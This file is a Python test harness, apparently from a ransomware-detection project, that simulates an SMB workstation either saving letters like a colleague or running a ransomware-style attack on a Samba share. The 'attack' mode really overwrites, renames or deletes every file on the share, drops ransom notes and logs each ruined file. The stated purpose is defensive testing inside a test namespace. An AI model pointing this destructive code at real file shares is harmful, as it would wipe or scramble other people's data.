"""A workstation speaking SMB 3 to a Samba share (smbprotocol): an attacker or a colleague.

    smb_workstation.py attack STYLE --server IP --user U --password P --progress FILE
    smb_workstation.py save --server IP --user U --password P --log FILE [--every 0.5]

``attack`` opens a session, lists the share, prints "ready", then encrypts
every file at full speed: ``inplace`` (each file overwritten with its
encryption), ``copy`` (a ransom note per directory, ``name.ext.locked``
written encrypted, the original deleted) or ``rename`` (renamed to
``name.ext.locked``, then overwritten with its encryption). One line
``<unix time> <path>`` per ruined file goes to the progress file.

``save`` is a colleague at work: every ``--every`` seconds a new version of a
letter in ``--dir`` is saved; one line ``<unix time> ok`` or ``<unix time>
failed <reason>`` per save. Both run until their work is done or they are
killed. Test traffic only: the server is an address inside a namespace the
test created.
"""

from __future__ import annotations

import argparse
import os
import sys
import time
from collections.abc import Callable

import smbclient
from smbprotocol.exceptions import SMBOSError

from tocsin.agent.simulate import LOCKED_EXT, NOTE_NAME, NOTE_TEXT, _xor

SHARE = "share"


def unc(server: str, rel: str = "") -> str:
    return rf"\\{server}\{SHARE}" + (("\\" + rel.replace("/", "\\")) if rel else "")


def victims(server: str) -> list[str]:
    out = []
    for dirpath, _dirs, files in smbclient.walk(unc(server)):
        out.extend(
            f"{dirpath}\\{f}" for f in files if f != NOTE_NAME and not f.endswith(LOCKED_EXT)
        )
    return sorted(out)


def _read(path: str) -> bytes:
    with smbclient.open_file(path, mode="rb") as fh:
        data: bytes = fh.read()
    return data


def _write(path: str, data: bytes) -> None:
    with smbclient.open_file(path, mode="wb") as fh:
        fh.write(data)


def ruin_inplace(path: str, seed: int, noted: set[str]) -> None:
    _write(path, _xor(_read(path), seed))


def ruin_copy(path: str, seed: int, noted: set[str]) -> None:
    folder = path.rsplit("\\", 1)[0]
    if folder not in noted:
        _write(f"{folder}\\{NOTE_NAME}", NOTE_TEXT.encode())
        noted.add(folder)
    _write(path + LOCKED_EXT, _xor(_read(path), seed))
    smbclient.remove(path)


def ruin_rename(path: str, seed: int, noted: set[str]) -> None:
    data = _read(path)
    smbclient.rename(path, path + LOCKED_EXT)
    _write(path + LOCKED_EXT, _xor(data, seed))


STYLES: dict[str, Callable[[str, int, set[str]], None]] = {
    "inplace": ruin_inplace,
    "copy": ruin_copy,
    "rename": ruin_rename,
}


def attack(args: argparse.Namespace) -> int:
    ruin = STYLES[args.style]
    files = victims(args.server)
    print(f"ready {len(files)}", flush=True)
    fd = os.open(args.progress, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    noted: set[str] = set()
    for n, path in enumerate(files):
        try:
            ruin(path, n + 1, noted)
        except SMBOSError:
            continue  # open elsewhere (a colleague's document): ransomware moves on
        os.write(fd, f"{time.time():.6f} {path}\n".encode())
    return 0


def save(args: argparse.Namespace) -> int:
    folder = unc(args.server, args.dir)
    smbclient.makedirs(folder, exist_ok=True)
    fd = os.open(args.log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    n = 0
    while True:
        t0 = time.monotonic()
        n += 1
        letter = f"Madame, Monsieur,\n\nVotre demande n° {n} est bien enregistrée.\n" * (1 + n % 7)
        try:
            _write(f"{folder}\\courrier-{n % 5}.txt", letter.encode())
            os.write(fd, f"{time.time():.6f} ok\n".encode())
        except Exception as exc:  # a failed save is what this workstation reports
            os.write(fd, f"{time.time():.6f} failed {type(exc).__name__}\n".encode())
        time.sleep(max(0.0, args.every - (time.monotonic() - t0)))


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="smb_workstation.py")
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("attack", "save"):
        s = sub.add_parser(name)
        if name == "attack":
            s.add_argument("style", choices=sorted(STYLES))
            s.add_argument("--progress", required=True)
        else:
            s.add_argument("--log", required=True)
            s.add_argument("--every", type=float, default=0.5)
            s.add_argument("--dir", default="Accueil")
        s.add_argument("--server", required=True)
        s.add_argument("--user", required=True)
        s.add_argument("--password", required=True)
    args = p.parse_args(argv)
    smbclient.register_session(
        args.server, username=args.user, password=args.password, connection_timeout=10
    )
    return attack(args) if args.cmd == "attack" else save(args)


if __name__ == "__main__":
    sys.exit(main())
